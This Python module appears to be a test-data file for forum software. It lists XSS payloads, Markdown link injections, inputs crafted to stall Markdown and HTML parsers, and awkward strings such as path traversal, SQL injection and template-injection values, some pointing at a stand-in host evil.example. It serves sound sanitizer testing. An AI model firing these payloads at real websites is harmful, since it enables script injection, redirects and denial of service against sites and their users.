"""Hostile input, our own list: the families of XSS, of slow Markdown and of awkward strings."""

# ruff: noqa: E501 - a payload stays on its line

LONG = 32_000


def filled(piece: str) -> str:
    """Return *piece* repeated up to the length of the longest post."""
    return (piece * (LONG // len(piece) + 1))[:LONG]


_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script x>
<script>alert(1)
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x" alt="`><img src=x onerror=alert(1)>`">
<img src='x' title='"><script>alert(1)</script>'>
<IMG SRC=JaVaScRiPt:alert(1)>
<img src="data:image/svg+xml;base64,PHN2Zy8+">
<img srcset="x 1x, javascript:alert(1) 2x">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<plaintext><script>alert(1)</script>
<select><script>alert(1)</script></select>
<table><script>alert(1)</script></table>
<table><a href=javascript:alert(1)>x</table>
<table background=javascript:alert(1)><td>x
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)><frame src=javascript:alert(1)>
<object data=javascript:alert(1)></object>
<object><param name=src value=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<base href=javascript:alert(1)//>
<link rel=stylesheet href=javascript:alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<body onload=alert(1)>
<html onmouseover=alert(1)>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit>
<isindex action=javascript:alert(1) type=submit>
<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1) src=javascript:alert(1)></video>
<audio src=javascript:alert(1) onloadstart=alert(1)></audio>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<p style="-moz-binding:url(//evil.example)">x</p>
<style>@import "//evil.example"; body{x:expression(alert(1))}</style>
<a href=javascript:alert(1)>x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="javascript:123">x</a>
<a href="data:1">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="http:javascript:alert(1)">x</a>
<a href="https:\\evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="/signout">x</a>
<a href="?next=//evil.example">x</a>
<a href="forum://evil.example">x</a>
<a href="forum:/\evil.example">x</a>
<a href="forum:/../../admin">x</a>
<a href="forum:javascript:alert(1)">x</a>
<a href='forum:/p/1" onclick="alert(1)'>x</a>
<a href="http://x" onclick=alert(1) onmouseover="alert(1)">x</a>
<a href="http://x" target=_blank ping=//evil.example download>x</a>
<a href="http://x&quot; onclick=&quot;alert(1)">x</a>
<a title='"onmouseover=alert(1) x="' href="http://x">x</a>
<a/href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert(1)>x</a>
<span class="fx-scroll fx-own" id=fx onclick=alert(1)>x</span>
<p class="fx-btn-main" dir=rtl tabindex=1 role=button>x</p>
<b onclick=alert(1)<i>x
<b <script>alert(1)</script>0
<x onclick=alert(1)>x
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html [<!ENTITY x "<script>">]>&x;
<%<!--'%><script>alert(1);</script -->
"><script>alert(1)</script>
' onmouseover='alert(1)
</p></div></body><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
<<script>alert(1)//<</script>
<script
"""

SCRIPTS = [
    *_SCRIPTS.strip().split("\n"),
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='\u200bjava\u00adscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "\ud800<script>alert(1)</script>\udfff",
    "<pre>\n\n<script>alert(1)</script></pre>",
    '<img """><script>alert(1)</script>">',
]

_MARKDOWN_SCRIPTS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x)
[x](\javascript:alert(1))
[x](http://a.example" onclick="alert(1))
[x](http://a.example 'title" onclick="alert(1)')
![x](javascript:alert(1))
![x" onerror="alert(1)](http://a.example/b.png)
![x](http://a.example/b.png "t\" onerror=\"alert(1)")
<javascript:alert(1)>
<http://a.example/"onclick="alert(1)>
[x]: javascript:alert(1)
`<script>alert(1)</script>`
**<img src=x onerror=alert(1)>**
@ana"><script>alert(1)</script>
http://a.example/"onclick="alert(1)
https://a.example/<script>alert(1)</script>
| <script>alert(1)</script> | [x](javascript:1) |
"""

MARKDOWN_SCRIPTS = [
    *_MARKDOWN_SCRIPTS.strip().split("\n"),
    '```html"onclick=alert(1)\n<script>alert(1)</script>\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '|a|\n|:-" onclick=alert(1)|\n|b|',
    "a\n\n<div onclick=alert(1)>\n\nb",
]

SLOW_MARKDOWN = [
    *(
        filled(piece)
        for piece in (
            "*a ",
            "_a**",
            "**x*",
            "[",
            "]",
            "[a](",
            "![",
            "![[]()",
            "[^",
            "`a``b",
            ">",
            "> ",
            "> > > > > > a\n",
            "- ",
            "|a",
            "*\n",
            "[a]: b\n",
            "<",
            "<http:",
            "&",
            "@",
            "@a",
            "@a.",
            "http://",
            "http://a(",
            "://",
            "~~a~ ",
            "\\",
            "\n",
            "a\n\n",
            "> a\nb\n",
            "```a\n```\n",
            "\x00",
            "\ud800a",
            '"',
            "![a](http://b.c/d) ",
            "- > ",
            "](",
            "&nbsp;",
            "-     a\n",
            "a\u0301\u0301\u0301",
            "\u202e",
        )
    ),
    "[" * 16_000 + "]" * 16_000,
    "*" * 16_000 + "a" + "*" * 15_999,
    "**a " * 8_000,
    "".join("e" + "`" * count for count in range(250)),
    "\n".join("  " * depth + "- a" for depth in range(170)),
    ">" * 50 + "a\n" + "a\n" * 15_000,
    "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + "|a\n" * 10_000,
    "|`a`" * 10 + "|\n" + "|-" * 10 + "|\n" + ("|`a`" * 10 + "|\n") * 594,
    "|a" * 10 + "|\n" + "|-" * 10 + "|\n" + "|a\n" * 10_000,
    "a|b\n-|-\n" + "*a|_b\n" * 5_000,
    "[a]: http://b.example/" + "x" * 1_800 + "\n\n" + "[a] " * 7_500,
    "http://a" + ")" * 31_000,
    "[a](" + "(" * 31_000,
    "@" + "a" * 31_999,
    "```c\n" + "/" * 31_000 + "\n```",
    "```css\na {" + "a" * 31_000,
    "```java\n" + "  \n" * 10_000,
]

SLOW_HTML = [
    *(
        filled(piece)
        for piece in (
            "<div>",
            "<b>",
            "<a href=http://b>",
            "<a href=http://b><p>",
            "<a><b></a></b>",
            "<p>",
            "<li>",
            "<b><i></b></i>",
            "<table><tr><td>",
            "<ul><li>",
            "<blockquote>",
            "<aside class=quote>",
            "<aside class=onebox><header><a href=http://x>a</a></header>",
            "<pre>\n\n",
            "<span class=k>",
            "<details><summary>a",
            "<code><b><i><s><u><em><strong><tt><small><p>",
            "<table>a",
            "<script>",
            "<iframe>",
            "<svg><p>",
            "<ruby><rt>",
            "<x y <",
            "<!--",
            "</p>",
            "<3 <b c <",
            "&",
            "x>",
            "<x data-a=b>",
            "<div class=chat-transcript data-name=b title=c>",
            "<picture><source srcset=a><img>",
            "<object title=a><param name=src value=b>",
            "<option label=a>",
            "<i title=a><area alt=b>",
        )
    ),
    "".join(f"<b c={number}><p>" for number in range(2_500)),
    "".join(f"<u x={number}><p>" for number in range(2_500)),
    "<a " + "".join(f"x{number}=1 " for number in range(4_000)) + ">",
]

AWKWARD = [
    "",
    " ",
    "\x00",
    "\ud800",
    "\udfff\ud800",
    "\ufffe",
    "\ufeffa",
    "\r\n\r",
    "\x0b\x0c\x85\u2028",
    "\u202eabc\u202c",
    "\u200b\u200b",
    "a\u0301" * 9,
    "👩‍👩‍👧",
    "👍🏽",
    "ß",
    "İ",
    "ﷺ",
    "सन्देश",
    "ليلى حدّاد",
    "Олена Ковальчук",
    "田中さん",
    "null",
    "undefined",
    "../../etc/passwd",
    "%00",
    "{{7*7}}",
    "${7*7}",
    "%s%n",
    "'; DROP TABLE forum_post; --",
    "=1+1",
    "1e309",
    "NaN",
    "&",
    "&amp;",
    "&#0;",
    "&#xD800;",
    "\\",
    "```",
    "~~~",
    "---",
    "|",
    "||",
    "| |\n|-|",
    "[]",
    "[]()",
    "![]()",
    "<>",
    "@",
    "@.",
    "@@",
    "#",
]
